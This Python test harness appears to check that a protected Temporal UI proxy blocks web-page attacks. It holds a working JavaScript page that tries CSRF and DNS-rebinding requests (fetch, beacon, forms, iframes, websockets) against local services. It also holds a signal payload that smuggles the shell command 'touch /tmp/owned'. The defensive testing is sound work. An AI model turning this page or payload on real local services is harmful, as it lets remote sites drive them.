"""The target of web page attacks: Temporal with its protected UI, an engine and a marketplace on this machine."""

import asyncio
import contextlib
import json
import os
import shutil
import signal
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from aiohttp import web
from temporalio.api.enums.v1 import EventType
from temporalio.api.workflowservice.v1 import ListBatchOperationsRequest
from temporalio.client import Client

from run.processes.listening_sockets import listening_sockets
from run.processes.temporal_server import connect, dev_server_command
from run.processes.temporal_ui import GuardedUi, blocked_address
from run.settings import DeploymentSettings
from run.state_folder.lock import free_port

NAMESPACE = "stoker"
VICTIM = "victim"
SIGNAL_PATH = f"/api/v1/namespaces/{NAMESPACE}/workflows/{VICTIM}/signal/set_workergroup"
SIGNAL_BODY = '{"input": [{"id": 1, "onstart_cmd": "touch /tmp/owned"}]}'
BATCH_PATH = f"/api/v1/namespaces/{NAMESPACE}/batch-operations/attack"
"""A batch operation can address workflow ids with a slash, such as `endpoint/<name>`."""
BATCH_BODY = json.dumps(
    {
        "visibilityQuery": "WorkflowType = 'EndpointWorkflow'",
        "reason": "attack",
        "signalOperation": {"signal": "set_workergroup", "input": {"payloads": []}, "identity": "attack"},
    }
)


BROWSER = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
SECONDS_MAX = 240

PAGE = """<!doctype html><title>attack</title><body><script>
const targets = %(targets)s;
const said = {};
const attempt = async (name, start) => {
  try { said[name] = String(await Promise.race([start(), new Promise(r => setTimeout(() => r("no answer"), 4000))])); }
  catch (fault) { said[name] = "refused: " + fault; }
};
const loaded = (element) => new Promise(r => { element.onload = () => r("load"); element.onerror = () => r("error"); });
const form = (url, body) => {
  const frame = document.createElement("iframe"); frame.name = "f" + Math.random(); document.body.append(frame);
  const made = document.createElement("form");
  Object.assign(made, {method: "POST", action: url, target: frame.name, enctype: "text/plain"});
  const field = document.createElement("input"); field.name = body; made.append(field); document.body.append(made);
  made.submit();
  return loaded(frame);
};
const socket = (url) => new Promise(r => {
  const one = new WebSocket(url); one.onopen = () => r("open"); one.onerror = () => r("error");
});
const inFrame = (url) => {
  const frame = document.createElement("iframe"); frame.src = url; document.body.append(frame); return loaded(frame);
};
(async () => {
  await Promise.all(targets.map(async ({name, host, port, path, body}) => {
    for (const at of [`${host}:${port}`, `rebound.example:${port}`]) {
      const url = `http://${at}${path}`;
      const simple = {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body};
      await attempt(`${name} ${at} simple`, async () => (await fetch(url, simple)).type);
      await attempt(`${name} ${at} json`, async () => (await fetch(url, {
        method: "POST", headers: {"Content-Type": "application/json"}, body})).status);
      await attempt(`${name} ${at} read`, async () => (await fetch(`http://${at}/`)).status);
      await attempt(`${name} ${at} beacon`, async () => navigator.sendBeacon(url, body));
      await attempt(`${name} ${at} form`, () => form(url, body));
      await attempt(`${name} ${at} frame`, () => inFrame(url));
      await attempt(`${name} ${at} image`, () => { const i = new Image(); i.src = url; return loaded(i); });
      await attempt(`${name} ${at} socket`, () => socket(`ws://${at}${path}`));
    }
  }));
  await fetch("/said", {method: "POST", body: JSON.stringify(said)});
})();
</script>"""


class Attacker:
    """The attacker's web site, and an unprotected server that records which requests the page sends."""

    def __init__(self, targets: list[dict[str, object]]) -> None:
        self.targets = targets
        self.said: asyncio.Future[dict[str, str]] = asyncio.get_running_loop().create_future()
        self.arrived: list[tuple[str, str, str]] = []
        """Method, host and body of each request to the unprotected server."""
        self._runners: list[web.AppRunner] = []

    async def open(self) -> str:
        """The page's address."""
        unguarded = await self._serve(self._arrive)
        self.targets.append(
            {"name": "unguarded", "host": "127.0.0.1", "port": unguarded, "path": "/x", "body": "{}"}
        )
        return f"http://attacker.example:{await self._serve(self._site)}/"

    async def close(self) -> None:
        for runner in self._runners:
            await runner.cleanup()

    async def _serve(self, handler: Callable[[web.Request], object]) -> int:
        app = web.Application()
        app.router.add_route("*", "/{path:.*}", handler)  # type: ignore[arg-type]
        runner = web.AppRunner(app, access_log=None, shutdown_timeout=0.1)
        await runner.setup()
        self._runners.append(runner)
        site = web.TCPSite(runner, "127.0.0.1", 0)
        await site.start()
        return int(runner.addresses[0][1])

    async def _arrive(self, request: web.Request) -> web.Response:
        self.arrived.append((request.method, request.host.partition(":")[0], await request.text()))
        return web.Response(text="ok")

    async def _site(self, request: web.Request) -> web.Response:
        if request.path == "/said":
            if not self.said.done():
                self.said.set_result(json.loads(await request.text()))
            return web.Response(text="")
        return web.Response(text=PAGE % {"targets": json.dumps(self.targets)}, content_type="text/html")


async def visit(url: str, profile: Path, until: "asyncio.Future[dict[str, str]]") -> dict[str, str]:
    """Open the page in a headless browser and return its report of its attempts."""
    assert BROWSER is not None
    process = await asyncio.create_subprocess_exec(
        BROWSER,
        *("--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run"),
        *(f"--user-data-dir={profile}", "--no-proxy-server", "--disable-background-networking"),
        "--host-resolver-rules=MAP *.example 127.0.0.1",
        "--remote-debugging-port=0",
        url,
        stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        async with asyncio.timeout(SECONDS_MAX):
            return await until
    finally:
        os.killpg(process.pid, signal.SIGKILL)
        await process.wait()


@dataclass
class Temporal:
    """A Temporal dev server as `stokerd dev` starts it, with a workflow that a page tries to signal."""

    client: Client
    pid: int
    ui_port: int
    grpc_port: int

    def ports(self) -> list[int]:
        """Every port on which the server or the UI's proxy listens."""
        found = listening_sockets([self.pid])
        assert found is not None
        assert all(one.is_loopback for one in found)
        return sorted({one.port for one in found} | {self.ui_port})

    def backend_ports(self) -> list[tuple[str, int]]:
        """Host and port of the server's own sockets."""
        return [(one.host, one.port) for one in listening_sockets([self.pid]) or []]

    async def signals(self) -> int:
        """The number of signals at the workflow, and of batch operations at the server."""
        history = await self.client.get_workflow_handle(VICTIM).fetch_history()
        signaled = EventType.EVENT_TYPE_WORKFLOW_EXECUTION_SIGNALED
        batches = await self.client.workflow_service.list_batch_operations(
            ListBatchOperationsRequest(namespace=NAMESPACE)
        )
        return sum(event.event_type == signaled for event in history.events) + len(batches.operation_info)


@contextlib.asynccontextmanager
async def temporal(folder: Path) -> AsyncIterator[Temporal]:
    """The server and its proxy, connected as in the dev stack."""
    grpc, ui = free_port(), free_port()
    settings = DeploymentSettings.model_validate(
        {"state_dir": folder, "temporal": {"port": grpc, "ui_port": ui, "db_filename": None}}
    )
    backend = blocked_address(settings.temporal.ip)
    process = await asyncio.create_subprocess_exec(
        *dev_server_command(settings, ui=backend),
        stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        client = await connect(settings.temporal, wait_seconds_max=90)
        guard = await GuardedUi.start("127.0.0.1", ui, f"http://{backend[0]}:{backend[1]}")
        try:
            await client.start_workflow("EndpointWorkflow", id=VICTIM, task_queue="nobody-polls")
            yield Temporal(client, process.pid, ui, grpc)
        finally:
            await guard.close()
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(process.pid, signal.SIGTERM)
        await process.wait()


async def raw(host: str, port: int, data: bytes, *, seconds: float = 30) -> bytes:
    """Send bytes and return the answer, until the peer closes or sends nothing for a second."""
    reader, writer = await asyncio.open_connection(host, port)
    got = b""
    try:
        with contextlib.suppress(ConnectionError, TimeoutError):
            writer.write(data)
            await writer.drain()
            async with asyncio.timeout(seconds):
                while piece := await reader.read(65536):
                    got += piece
    finally:
        writer.close()
    return got


def request(method: str, path: str, host: str, body: str = "", **fields: Any) -> bytes:
    """One HTTP request that closes its connection; `Content_Type="…"` becomes `Content-Type`."""
    lines = [
        f"{method} {path} HTTP/1.1",
        f"Host: {host}",
        "Connection: close",
        f"Content-Length: {len(body)}",
    ]
    lines += [f"{name.replace('_', '-')}: {text}" for name, text in fields.items()]
    return ("\r\n".join([*lines, "", ""]) + body).encode()
